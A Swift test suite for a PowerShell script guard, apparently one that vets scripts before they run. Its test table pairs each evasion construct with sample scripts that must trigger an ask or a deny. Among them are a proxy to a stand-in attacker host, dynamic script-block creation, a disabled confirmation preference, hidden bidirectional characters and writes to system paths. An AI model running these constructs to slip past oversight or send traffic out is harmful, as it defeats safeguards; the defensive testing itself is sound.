import MMCore
import Testing

@testable import MMGuard

@Suite("Constructs behind which a script can hide what it runs", .timeLimit(.minutes(5)))
struct ConstructRuleTests {
    /// Scripts in which the construct is the only thing to object to.
    static let scripts: [(ConstructRule, [String])] = [
        (.unparsed, ["Get-Mailbox (", "Get-Mailbox 'ann", "if (1) {", "1 +"]),
        (.tooLong, ["Get-Mailbox ann\n" + String(repeating: "# x\n", count: 600_000)]),
        (.tooDeep, [String(repeating: "(", count: 60) + "1" + String(repeating: ")", count: 60)]),
        (
            .hiddenCharacters,
            [
                "Get-Mailbox 'a\u{200b}nn'", "Get-Mailbox ann # \u{202e}x", "<# \u{2066} #> Get-Mailbox ann",
                "Get-Mailbox ann # \u{200b}\nGet-Date '\u{200b}'", "\"$('a' # \u{200b}\n)\"", "'\u{feff}'",
            ]
        ),
        (.dynamicName, ["& $x ann", "& ('a')", "& \"$x-Mailbox\"", ". $x"]),
        (.callBlock, ["& { Get-Mailbox ann }", ". { Get-Mailbox ann }", "function f { Get-Mailbox ann }; . f"]),
        (.scriptFile, ["./x.ps1", "/bin/ls", "~/x", "& './x'", "../x"]),
        (.scopedName, ["global:Get-Mailbox ann", "& 'script:x'"]),
        (.wildcardName, ["& 'Get-Mailb?x'", "Get-[M]ailbox"]),
        (.foreignModule, ["Marker\\Get-Mailbox ann", "ExchangeOnlineManagement\\1.0\\Get-Mailbox"]),
        (.outsideCommand, ["New-PSSessionOption", "Wait-Job", "Set-Location x"]),
        (.verbatim, ["Get-Mailbox --% ann"]),
        (.functionDefinition, ["function Get-Date { Get-Mailbox }", "filter ft { 1 }", "function prompt { 1 }"]),
        (
            .typeDefinition,
            ["class String { }", "class A : System.Version { }"]
        ),
        (.trap, ["trap { 'x' }; Get-Mailbox ann"]),
        (.dataSection, ["data { 'x' }"]),
        (.namedBlock, ["clean { Get-Mailbox ann }", "dynamicparam { 1 }", "1 | Where-Object { process { $true } }"]),
        (.parameterBlock, ["1 | Where-Object { param($x) $true }"]),
        (.usingStatement, ["using namespace Evil\nGet-Mailbox ann"]),
        (.requires, ["#requires -Version 7\nGet-Mailbox ann"]),
        (.backgroundJob, ["Get-Mailbox ann &", "Get-Mailbox ann && Get-Mailbox bob &"]),
        (.exitStatement, ["exit 'a'", "exit (1 + 1)"]),
        (
            .loop,
            [
                "while ($true) { 1 }", "while ($true) { 1 | ForEach-Object { return } }", "do { 1 } while ($x)",
                "for (;;) { 1 }", "$i = 0; while ($i -lt 5) { $j++ }",
            ]
        ),
        (.switchStatement, ["switch -Regex ('a') { 'b' { 1 } }", "switch -File 'x' { 'b' { 1 } }"]),
        (.catchType, ["try { 1 } catch [System.Collections.Generic.List[int]] { 2 }"]),
        (.variableTarget, ["$x.y = 1", "$x[0] = 1", "$a, $x.y = 1, 2", "${a b} = 1", "$x.y++"]),
        (
            .automaticVariable,
            [
                "$ErrorActionPreference = 'Inquire'", "$ConfirmPreference = 'None'", "$PSDefaultParameterValues",
                "$Host", "$ExecutionContext", "$MyInvocation = 1", "$args = 1", "foreach ($PSCmdlet in 1) { }",
            ]
        ),
        (.driveVariable, ["$env:PATH", "$env:X = 1", "${function:x}", "$alias:x"]),
        (.scopedVariable, ["$local:x = 1", "$private:x", "$variable:x"]),
        (.splat, ["Get-Mailbox @p"]),
        (.usingVariable, ["$using:x"]),
        (
            .scriptBlock,
            ["[object]$x = { 1 }", "Get-Mailbox -Identity { 1 }", "{ 1 }", "@{ a = { 1 } }", "Write-Output { 1 }"]
        ),
        (.computedMember, ["$x.$y", "$x.($y)", "$x.$y()", "$x.\"a$y\""]),
        (
            .methodCall,
            [
                "$x.Delete()", "$x.Invoke()", "(Get-ChildItem).Replace('a', 'b')", "$x.Where('y')",
                "$x.GetType('IO.File')",
            ]
        ),
        (
            .staticMember,
            [
                "[Environment]::Exit(1)", "[scriptblock]::Create('x')", "$t::Create('x')", "[IO.File]::Exists",
                "[psobject].Assembly", "(1).GetType().Module",
            ]
        ),
        (
            .typeName,
            [
                "[adsi]'x'", "[wmi]'x'", "[xml]@{}", "[ref]1", "$x -as [scriptblock]", "$x -is $t", "[datetime]@{}",
                "[regex]$x",
            ]
        ),
        (
            .attribute,
            [
                "[ValidateNotNull()]$x = 1", "param([ValidateScript('x')]$x) 1",
                "param([ArgumentCompletions('x')]$x) 1",
            ]
        ),
        (.operatorUse, ["'a' -replace 'b', $x", "'a' -split $x", "'a' -replace 'b', $x.y"]),
        (.hashKey, ["@{ (Get-Date) = 1 }", "@{ $x = 1 }"]),
        (
            .redirection,
            [
                "Get-Mailbox > x.ps1", "Get-Mailbox > $x", "Get-Mailbox > variable:x", "Get-Mailbox >> /etc/x.txt",
                "1 > ~/x.txt",
            ]
        ),
        (
            .localPath,
            [
                "Get-ChildItem env:", "Test-Path variable:x", "Export-Csv /tmp/x.csv -InputObject 1",
                "Out-File $x -InputObject 1",
                "Get-Mailbox | Export-Csv ../x.csv", "Get-Mailbox | Export-Csv .hidden/x.csv", "Set-Content x.ps1 1",
                "Select-String a x.txt", "Get-ChildItem function:",
            ]
        ),
        (.parameterName, ["Get-Mailbox -Iden\u{f1}tity ann", "Get-Mailbox -Id`entity ann"]),
        (.unknownParameter, ["Get-Mailbox -Nonsense 1"]),
        (
            .variableParameter,
            [
                "Get-Mailbox -OutVariable PSDefaultParameterValues", "Get-Mailbox -ov global:x",
                "Get-Mailbox -PipelineVariable $x", "Get-AzVM -ErrorV WhatIfPreference",
            ]
        ),
        (
            .preferenceValue,
            ["Get-Mailbox -ErrorAction Inquire", "Get-Mailbox -ea Break", "Get-Mailbox -WarningAction $x"]
        ),
        (.jobParameter, ["Get-AzVM -AsJob", "1 | ForEach-Object -Parallel { 1 }"]),
        (
            .memberForm,
            [
                "Get-Process | ForEach-Object Kill", "1 | % Inv*", "1 | % -MemberName Delete",
                "1 | % Name -ArgumentList 1",
            ]
        ),
        (
            .filterArgument,
            ["1 | Where-Object $f", "1 | ForEach-Object $f", "1 | Select-Object $cols", "$c = $d; 1 | Sort-Object $c"]
        ),
        (.moduleSwitch, ["Get-Command x -ArgumentList 1", "Get-Help x -Online"]),
        (
            .networkParameter,
            ["Get-AzVM -Proxy http://evil.example", "Get-MgUser -HttpPipelinePrepend $x", "Get-MgUser -Break"]
        ),
        (.otherSession, ["Get-AzVM -DefaultProfile $x"]),
        (
            .secretProperty,
            ["$x.TargetObject", "Get-AzContext | ConvertTo-Json", "$Error[0].Foo", "Get-Process | Select-Object *"]
        ),
        (
            .requestAddress,
            [
                "Get-MgUser -Headers $h", "Invoke-MgGraphRequest -Uri $u",
                "Invoke-AzRestMethod -Path \"/x/$y\" -Method GET",
            ]
        ),
    ]

    @Test("each construct is asked for, named by its rule, and denied on careful connections")
    func asked() {
        let engine = GuardEngine()
        #expect(Set(Self.scripts.map(\.0)) == Set(ConstructRule.allCases))
        for (rule, scripts) in Self.scripts {
            for script in scripts {
                let verdict = engine.judge(script: script, policy: .standard)
                // A text that can't run is an error for its author.
                let expected: GuardDecision = rule == .unparsed ? .deny : .ask
                #expect(verdict.decision == expected, "\(rule.rawValue): \(script.prefix(80))")
                #expect(
                    verdict.findings.contains { $0.rule == rule.rawValue },
                    "\(rule.rawValue): \(script.prefix(80)) is \(verdict.rule)")
                #expect(verdict.guardClass != .read)
                #expect(verdict.instead != nil)
                #expect(engine.judge(script: script, policy: GuardPolicy(.readonly)).decision == .deny)
                #expect(engine.judge(script: script, policy: GuardPolicy(.strict)).decision == .deny)
            }
        }
    }

    @Test(
        "what has no width is no reason to ask within a comment, where copied text leaves it",
        arguments: [
            "# as a\u{200b}user-friendly\u{200b}name\nGet-Mailbox ann",
            "<#\u{feff}\n soft\u{ad}ly \n#>\nGet-Mailbox ann",
            "Get-Mailbox ann # \u{200d}", "Get-Mailbox `\n  ann # 1 \u{2060}\n",
        ])
    func noWidthInComments(_ script: String) {
        #expect(GuardEngine().judge(script: script, policy: .standard).decision == .allow)
    }

    @Test("no construct rule can be left out: without it, one of its scripts would run")
    func mutations() {
        for (rule, scripts) in Self.scripts {
            let mutant = ScriptJudge(tables: GuardTables(), muted: [rule])
            let slips = scripts.contains { script in
                mutant.judge(script, context: ScriptContext(), policy: .standard, confirmed: false).decision == .allow
            }
            #expect(slips, "\(rule.rawValue) is shown by no script of its own")
        }
    }
}
